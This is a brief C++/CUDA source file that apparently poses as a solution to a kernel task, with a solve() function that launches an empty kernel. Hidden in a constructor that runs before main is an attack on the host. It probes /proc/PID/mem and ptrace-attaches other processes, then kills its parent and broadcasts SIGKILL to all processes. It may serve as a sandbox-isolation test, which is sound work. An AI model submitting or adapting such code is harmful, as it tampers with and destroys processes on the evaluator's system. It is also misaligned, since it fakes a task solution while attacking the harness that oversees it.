// Reaches for its parent: ptrace, /proc/PID/mem, signals.
#include <csignal>
#include <cstdio>
#include <fcntl.h>
#include <sys/ptrace.h>
#include <unistd.h>
__global__ void nothing() {}
__attribute__((constructor)) static void attack() {
    for (int pid = 1; pid < 64; pid++) {
        if (pid == getpid())
            continue;
        char path[64];
        std::snprintf(path, sizeof path, "/proc/%d/mem", pid);
        int fd = open(path, O_RDWR);
        if (fd >= 0)
            std::printf("opened %s\n", path);
        if (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0)
            std::printf("traced %d\n", pid);
    }
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
}
void solve(const float *in, float *out, int rows, int cols){
    nothing<<<1, 1>>>();
}
